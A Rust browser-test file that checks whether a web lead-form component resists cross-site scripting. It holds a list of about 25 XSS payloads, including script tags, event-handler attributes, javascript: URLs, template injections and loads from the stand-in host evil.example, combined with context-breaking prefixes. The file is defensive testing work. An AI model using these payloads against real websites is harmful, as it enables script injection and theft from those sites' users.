//! Two hundred strings that try to be code, in every text of a form and in every parameter of an address: none runs, none
//! makes an element or an attribute.
//!
//! Apart because it is the same question for the whole surface: a string stays a string. A page is held against the same
//! page with a harmless word in that place, so that nothing need be known of the page.

use serde_json::{Value, json};

use crate::browser::Browser;
use crate::house::House;

/// What wants to run. Each sets a mark on whatever window it gets hold of.
const CODE: [&str; 25] = [
    "<script>top.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=top.ran=1>",
    "<svg onload=top.ran=1>",
    "<svg><script>top.ran=1</script></svg>",
    "<iframe srcdoc='<script>top.ran=1</script>'></iframe>",
    "<a href=javascript:top.ran=1>x</a>",
    "<body onload=top.ran=1>",
    "<input autofocus onfocus=top.ran=1>",
    "<details open ontoggle=top.ran=1>",
    "<video><source onerror=top.ran=1></video>",
    "<object data=javascript:top.ran=1></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:top.ran=1'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>x</button></form>",
    "<math><mtext></mtext><mglyph><svg onload=top.ran=1></mglyph></math>",
    "javascript:top.ran=1",
    "data:text/html,<script>top.ran=1</script>",
    "${top.ran=1}",
    "{{constructor.constructor('top.ran=1')()}}",
    " onmouseover=top.ran=1 style=position:fixed;inset:0 x=",
    "&lt;script&gt;top.ran=1&lt;/script&gt;",
    "%3Cscript%3Etop.ran=1%3C/script%3E",
];
/// What wants to end where the string stands before the code begins.
const BREAKS: [&str; 8] =
    ["", "\">", "'>", "</script>", "</textarea></title></style>", "-->", "\\\"]}',", "\u{2028}"];

fn strings() -> Vec<String> {
    BREAKS.iter().flat_map(|before| CODE.iter().map(move |code| format!("{before}{code}"))).collect()
}

/// A form that says this wherever a form says something.
fn form(id: &str, text: &str) -> String {
    let text = json!(text);
    format!(
        r#"
        id = "{id}"
        version = 1
        account = "takepayments"
        allowed_origins = ["http://127.0.0.1:8090"]
        default_locale = "en"
        country = "GB"
        steps = [{{ name = "one", title = {text} }}, {{ name = "two", title = {text} }}]
        [texts]
        title = {text}
        intro = {text}
        submit = {text}
        success_title = {text}
        success_text = {text}
        [[fields]]
        name = "first_name"
        on_step = "one"
        label = {text}
        hint = {text}
        required = true
        max_length = 200
        [[fields]]
        name = "last_name"
        label = {text}
        required = true
        max_length = 200
        [[fields]]
        name = "industry"
        kind = "select"
        label = {text}
        options = [{{ value = "a", label = {text} }}, {{ value = "b", label = {text} }}]
        [[fields]]
        name = "customer_type"
        kind = "radio"
        on_step = "two"
        label = {text}
        required = true
        options = [{{ value = "New to cards", label = {text} }}, {{ value = "Switching", label = {text} }}]
        [[fields]]
        name = "email"
        label = {text}
        required = true
        max_length = 200
        [[fields]]
        name = "phone"
        label = {text}
        placeholder = {text}
        required = true
        "#
    )
}

/// What an element takes as text; the form's name last, since each change of it asks for the form anew.
const ATTRIBUTES: [&str; 11] = [
    "locale",
    "data-theme",
    "font",
    "link",
    "mode",
    "preset",
    "density",
    "data-layer",
    "prefill-query",
    "prefill-token",
    "form",
];

/// The bones of a page: every element, and the names of its attributes. Parsed as a browser parses, run by nobody.
const BONES: &str = r"
    const bones = (html) => Array.from(new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*'))
        .map(e => [e.localName, ...Array.from(e.attributes).map(a => a.name)].join(' ')).join('\n');
    const html = (path) => fetch(path).then(answer => answer.text());
    const done = arguments[arguments.length - 1];";

/// Asks the proxy for these pages from a page of its own; gives the paths whose bones are not those of the first.
async fn differing(browser: &Browser, paths: &[String]) -> Value {
    let script = format!(
        r"{BONES} (async () => {{
            const wanted = bones(await html(arguments[0][0])), found = [];
            for (const path of arguments[0]) if (bones(await html(path)) !== wanted) found.push(path);
            done([wanted.split('\n').length, found]);
        }})();"
    );
    let said = browser.driver.execute_async(script, vec![json!(paths)]).await.unwrap().json().clone();
    assert!(said[0].as_u64().unwrap() > 10, "the pages have bones: {said}");
    said[1].clone()
}

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn no_string_in_a_parameter_of_an_address_becomes_code() {
    let house = House::start().await;
    let browser = Browser::start().await;
    browser.goto(&house.own("/f/callback")).await;
    // Other bones are told from the same.
    let other = ["/f/callback", "/f/card-machines"].map(str::to_owned);
    assert_eq!(differing(&browser, &other).await, json!([other[1]]));
    let every = ["locale", "link", "theme", "instance", "parent", "utm_source", "first_name"].as_slice();
    for (path, names) in
        [("/f/callback", every), ("/embed/callback", every), ("/f/complete-account", &["locale", "link"])]
    {
        for name in names {
            // A word in the same place, for what stands on a page because of the parameter alone.
            let address = |text: &str| format!("{path}?{name}={}", escaped(text));
            let mut paths = vec![address("~word~")];
            paths.extend(strings().iter().map(|text| address(text)));
            assert_eq!(differing(&browser, &paths).await, json!([]), "{path} {name}");
        }
    }
    assert_eq!(browser.run("return window.ran ?? null", &[]).await, Value::Null);
    browser.stop().await;
    house.stop().await;
}

#[tokio::test]
async fn no_text_of_a_form_becomes_code() {
    let mut texts = vec!["a word".to_owned()];
    texts.extend(strings());
    let forms: Vec<(String, String)> = texts
        .iter()
        .enumerate()
        .map(|(at, text)| (format!("text-{at}"), form(&format!("text-{at}"), text)))
        .collect();
    let forms: Vec<(&str, &str)> = forms.iter().map(|(id, text)| (id.as_str(), text.as_str())).collect();
    let house = House::start_in("tests/pages", &forms).await;
    let browser = Browser::start().await;
    browser.goto(&house.own("/f/callback")).await;
    for prefix in ["/f", "/embed"] {
        let paths: Vec<String> = (0..texts.len()).map(|at| format!("{prefix}/text-{at}")).collect();
        assert_eq!(differing(&browser, &paths).await, json!([]), "{prefix}");
    }
    // On a host page without any policy, where whatever can run does.
    browser.goto(&house.page("plain.html")).await;
    for (at, text) in texts.iter().enumerate() {
        let show = "window.ready = false;
            addEventListener('lead-form:ready', () => window.ready = true, { once: true });
            document.querySelector('lead-form').setAttribute('form', arguments[0])";
        browser.run(show, &[json!(format!("text-{at}"))]).await;
        browser.until(text, "return window.ready", &[]).await;
        let shown = r"const root = document.querySelector('lead-form').shadowRoot;
            return [root.querySelectorAll('script, img, iframe, object, base, meta, link, [onerror], [onload], svg[onload], a').length,
                root.querySelector('.lf-title').textContent.trim(), root.querySelector('label').textContent.includes(arguments[0].trim()), window.ran ?? null]";
        assert_eq!(browser.run(shown, &[json!(text)]).await, json!([0, text.trim(), true, null]), "{text}");
    }
    // And as the element's own attributes.
    let set = "const e = document.querySelector('lead-form');
        e.setAttribute('prefill', JSON.stringify({ [arguments[0]]: arguments[0], first_name: arguments[0] }));
        for (const name of arguments[1]) e.setAttribute(name, arguments[0])";
    for text in strings() {
        browser.run(set, &[json!(text), json!(ATTRIBUTES)]).await;
    }
    let refused = "return document.querySelector('lead-form').shadowRoot.querySelector('a') ? 1 : 0";
    browser.until("a form of no such name is a link", refused, &[]).await;
    assert_eq!(browser.run("return window.ran ?? null", &[]).await, Value::Null);
    browser.stop().await;
    house.stop().await;
}

#[tokio::test]
async fn no_word_on_a_button_becomes_code_and_no_value_that_is_filled_in() {
    let house = House::start().await;
    let browser = Browser::start().await;
    browser.goto(&house.page("plain.html")).await;
    let filled =
        "const found = document.querySelector('lead-form')?.shadowRoot?.querySelector('[name=first_name]');
        return found?.value === arguments[0]";
    for text in strings() {
        let show = r"const old = document.querySelector('lead-form'), made = document.createElement('lead-form');
            made.setAttribute('form', 'card-machines');
            made.setAttribute('as', 'popup');
            made.setAttribute('draft', 'off');
            made.setAttribute('label', arguments[0]);
            made.setAttribute('prefill', JSON.stringify({ first_name: arguments[0] }));
            old.replaceWith(made);
            return made.open()";
        browser.run(show, &[json!(text)]).await;
        // A line of text holds no line breaks.
        let line: String = text.chars().filter(|c| !['\n', '\r'].contains(c)).collect();
        browser.until(&text, filled, &[json!(line)]).await;
        let shown = "const root = document.querySelector('lead-form').shadowRoot;
            return [root.querySelector('.lf-opener button').textContent, root.querySelectorAll('script, img, a').length, window.ran ?? null]";
        assert_eq!(browser.run(shown, &[]).await, json!([text, 0, null]), "{text}");
    }
    browser.stop().await;
    house.stop().await;
}
